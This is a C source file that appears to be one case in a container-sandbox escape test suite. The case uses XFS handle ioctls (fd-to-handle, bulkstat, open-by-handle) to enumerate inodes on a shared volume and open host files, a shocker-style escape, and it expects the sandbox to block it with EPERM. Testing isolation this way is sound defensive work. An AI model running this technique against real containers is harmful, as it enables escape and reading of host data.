// SPDX-License-Identifier: GPL-2.0-only
/*
 * XFS opens its files by handle through calls of its own, from any folder, and
 * lists the numbers of all of them: what shocker.c does needs no
 * open_by_handle_at(). xfsctl(3), of xfsprogs, has it all.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>
#include <linux/capability.h>

#include "escape.h"

#define INODES	64

/* As XFS has them, for programs. */
struct handle_request {
	uint32_t fd;
	const char *path;
	uint32_t flags;
	const void *in;
	uint32_t in_len;
	void *out;
	uint32_t *out_len;
};

struct handle {
	uint64_t fs;
	uint16_t len, pad;
	uint32_t generation;
	uint64_t ino;
};

struct bulk {
	uint64_t ino;
	uint32_t flags, room, count, group;
	uint64_t reserved[5];
	struct {
		uint64_t ino, told[7];
		uint32_t generation, more[31];
	} inodes[INODES];
};

#define FD_TO_HANDLE	_IOWR('X', 106, struct handle_request)
#define OPEN_BY_HANDLE	_IOWR('X', 107, struct handle_request)
#define BULKSTAT	_IOR('X', 127, char[64])

/* Return: 0 if it is the secret. */
static int read_inode(int at, struct handle *h, uint64_t ino, uint32_t generation)
{
	struct handle_request r = { .flags = O_RDONLY, .in = h, .in_len = sizeof(*h) };
	char text[64] = "";
	int fd, error;

	h->ino = ino;
	h->generation = generation;
	fd = ioctl(at, OPEN_BY_HANDLE, &r);
	if (fd < 0)
		return errno;
	error = read(fd, text, sizeof(text) - 1) < 0 ? errno : is_secret(text);
	close(fd);
	return error;
}

static int attempt(const struct args *a)
{
	static struct bulk all = { .room = INODES };
	struct handle h;
	uint32_t len = sizeof(h);
	int shared = open("/data", O_RDONLY | O_DIRECTORY), error = ENOENT;
	struct handle_request own = { .fd = shared, .out = &h, .out_len = &len };
	unsigned int i;

	(void)a;
	if (ioctl(shared, FD_TO_HANDLE, &own) || ioctl(shared, BULKSTAT, &all))
		return errno;
	for (i = 0; i < all.count; i++) {
		error = read_inode(shared, &h, all.inodes[i].ino, all.inodes[i].generation);
		if (!error || error == EPERM)
			return error;
	}
	return error;
}

static void prepare(struct args *a)
{
	(void)a;
	image_make("xfs", "mkfs.xfs --unsupported -q -f");
}

const struct escape xfs_handle[] = {
	{ "the host's files by XFS's own handles",
	  { .caps = CAP(CAP_SYS_ADMIN),
	    .volumes = { DISK_MOUNT "/shared", "/data" } },
	  prepare, .attempt = attempt, .restore = disk_remove, .error = EPERM,
	  .act = BULKHEAD_ACT_HANDLE, .rule = "preset open-by-handle", .needs = "xfs" },
	{ NULL }
};
